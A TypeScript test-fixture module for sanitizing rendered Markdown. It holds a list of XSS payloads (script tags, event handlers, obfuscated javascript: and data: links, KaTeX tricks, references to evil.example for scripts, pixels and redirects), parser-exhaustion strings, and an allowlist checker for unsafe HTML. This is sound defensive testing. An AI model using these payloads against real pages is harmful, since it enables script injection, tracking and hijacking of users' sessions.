// Texts of those who mean harm, and what is wrong in HTML that was made of them: one table for every place that shows Markdown.
import fc from 'fast-check';

/** Each would run, call or lead somewhere; `evil.example` is asked by nobody who only reads. */
export const attacks: readonly string[] = [
  '<script>window.ran=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<svg onload=window.ran=1><script>window.ran=1</script></svg>',
  '<svg><a xlink:href="javascript:window.ran=1"><text>x</text></a></svg>',
  '<img src=x onerror=window.ran=1>',
  '<img src=//evil.example/pixel>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:window.ran=1"></object><embed src="//evil.example/x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>',
  'a <b onclick="x">b</b> <form action=//evil.example><input autofocus onfocus=window.ran=1>',
  '<!-- --><style>*{display:none}@import "//evil.example/x.css"</style><link rel=stylesheet href=//evil.example/y.css>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '```html" onmouseover="x\n<script>window.ran=1</script>\n```',
  '```"><img/src=x/onerror=window.ran=1>\nx\n```',
  '```constructor\nx\n```\n\n```__proto__\nx\n```\n\n```toString\nx\n```',
  '[x](https://evil.example "\\" onmouseover=\\"x")',
  '![" onerror="x](https://evil.example/"onerror="x)',
  '![pixel](http://evil.example/pixel.png)',
  '[![pixel](http://evil.example/pixel.png)](http://evil.example/)',
  '![pixel][p]\n\n[p]: //evil.example/pixel.png "t"',
  '[x](javascript:window.ran=1)',
  '[x](JaVaScRiPt:window.ran=1)',
  '[x](&#106;avascript:window.ran=1)',
  '[x](java&Tab;script:window.ran=1)',
  '[x](<java\nscript:window.ran=1>)',
  '[x](\u0001javascript:window.ran=1)',
  '[x](%20javascript:window.ran=1) [x](\\javascript:window.ran=1)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x) [x](file:///etc/passwd) [x](blob:https://a/b) [x](view-source:x)',
  '<javascript:window.ran=1> <data:text/html,x>',
  '![x](data:image/svg+xml,<svg/onload=window.ran=1>)',
  '[x]: javascript:window.ran=1\n\n[x] ![x]',
  '| <script>window.ran=1</script> |\n|--|\n| [x](javascript:window.ran=1) |',
  '- [ ] <img src=x onerror=window.ran=1>\n- [x] [x](javascript:window.ran=1)',
  '$\\href{javascript:window.ran=1}{x}$ $\\includegraphics{//evil.example/p.png}$ $\\htmlData{a=b}{<img src=x onerror=window.ran=1>}$',
  '$$\n\\url{javascript:window.ran=1} \\def\\a{\\a\\a}\\a\n$$',
  '# <img src=x onerror=window.ran=1> {onclick=x}\n\n## "><script>window.ran=1</script>',
  'https://evil.example/"onmouseover="x https://evil.example/<script> https://evil.example/\u0000',
  '\u202e<script>window.ran=1</script>\ud800',
];

const signs =
  '< > " \' ` * _ [ ] ( ) ! # | - : & a $ \\ ~~ \\( \\[ $$ ``` [x] https://x/ javascript: <script> onload= &quot;'.split(
    ' ',
  );
/** Texts of whatever means something to a parser. */
export const anyText: fc.Arbitrary<string> = fc
  .array(fc.constantFrom(...signs, '\n', ' ', '> ', '1. ', '\n\n', '    '), { maxLength: 60 })
  .map((pieces) => pieces.join(''));

/** Characters of a text that nobody writes, each kind of which takes a naive parser more time or stack than there is. */
export const heavy = (size: number): Record<string, string> => {
  const of = (unit: string, times = size) => unit.repeat(Math.ceil(times / unit.length));
  const each = (count: number, line: (index: number) => string) => Array.from({ length: count }, (_, at) => line(at));
  const root = Math.floor(Math.sqrt(2 * size));
  return {
    quotes: of('>'),
    'quotes with spaces': of('> '),
    lists: of('- '),
    'numbered lists': of('1. '),
    'lists in quotes': of('> - '),
    'quotes that go on': `${'>'.repeat(200)}a\n${of('b\n')}`,
    'deeper lines': each(Math.floor(root / 2), (depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    brackets: of('['),
    images: of('!['),
    links: of('[a]('),
    'links in links': '[a'.repeat(size / 6) + '](b)'.repeat(size / 6),
    'images in images': '![a'.repeat(size / 7) + '](b)'.repeat(size / 7),
    emphasis: of('*a **a '),
    underscores: of('_a__'),
    'emphasis within emphasis': `${'*'.repeat(size / 2)}a${'*'.repeat(size / 2)}`,
    'strong within strong': '**a '.repeat(size / 8) + 'b** '.repeat(size / 8),
    strikethrough: of('~~a'),
    'code marks': each(root, (length) => '`'.repeat(length)).join(' '),
    fences: each(root, (length) => '`'.repeat(length + 3)).join('\n'),
    definitions: of('[a]: b\n'),
    'different definitions': each(size / 12, (at) => `[a${at}]: b`).join('\n'),
    'a definition that is used often': `[a]: /${'x'.repeat(size / 2)}\n\n${of('[a]', size / 2)}`,
    'an allowed address that is used often': `[a]: /${'x'.repeat(1900)}\n\n${of('[a]', size / 2)}`,
    'labels without an end': of('[a\n'),
    'a wide table': `${of('|a', size / 4)}\n${of('|-', size / 4)}\n${of('|b\n', size / 4)}`,
    'a long table': `|a|b|\n|-|-|\n${of('|c|d|\n')}`,
    'heads of tables': of('|a|\n|-|\n'),
    headings: of('# a\n'),
    'signs of addresses': of('<http://a '),
    addresses: of('http://a.b/) '),
    'brackets of addresses': `http://a/${of(')')}`,
    dollars: of('$a '),
    'dollars on lines': of('$$\n'),
    formulas: of('$a$ '),
    'formulas without an end': of('\\('),
    'formulas on lines': of('\\[a\n'),
    backslashes: of('\\'),
    entities: of('&#1;'),
    'HTML without an end': of('<![CDATA['),
  };
};

const elements =
  /^<\/?(a|p|em|strong|s|code|pre|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td|div|span|button|svg|path|use|!--.*)$/;
const attributes = [
  /^href="(https?:[^"]*|mailto:[^"]*|[^":]*|[/?#][^"]*)"$/i,
  /^rel="[a-z ]+"$/,
  /^class="[\w+#. -]*"$/,
  /^(id|start|target|role|title|type|tabindex|d|viewBox|width|height|fill|focusable|href)="[^"<>]*"$/i,
  /^(aria|data)-[a-z-]+="[^"<>]*"$/,
  /^dir="auto"$/,
  /^align="(left|right|center)"$/,
  /^style="text-align: ?(left|right|center);?"$/,
];

/** Elements and attributes in HTML that no text may make. */
export function unsafeIn(html: string): string[] {
  return [...html.matchAll(/<(?!!--)[^>]*>?/g)].flatMap(([tag]) => {
    const [, name = '', rest = ''] = /^(<\/?[^\s/>]*)([\s\S]*?)\/?>$/.exec(tag) ?? [];
    if (!elements.test(name)) return [tag];
    const given = rest.match(/[^\s="]+(="[^"]*"?)?/g) ?? [];
    return given.filter((one) => !attributes.some((pattern) => pattern.test(one))).map((one) => `${tag}: ${one}`);
  });
}
